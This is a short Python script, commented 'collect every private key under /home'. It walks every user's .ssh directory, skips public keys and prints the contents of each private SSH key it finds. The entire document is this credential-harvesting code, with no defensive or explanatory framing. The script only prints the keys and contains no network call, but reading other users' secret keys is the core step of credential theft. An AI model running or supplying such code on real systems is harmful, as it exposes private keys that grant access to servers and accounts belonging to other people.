# collect every private key under /home
import glob
for key in glob.glob("/home/*/.ssh/id_*"):
    if not key.endswith(".pub"):
        print(key, open(key).read())
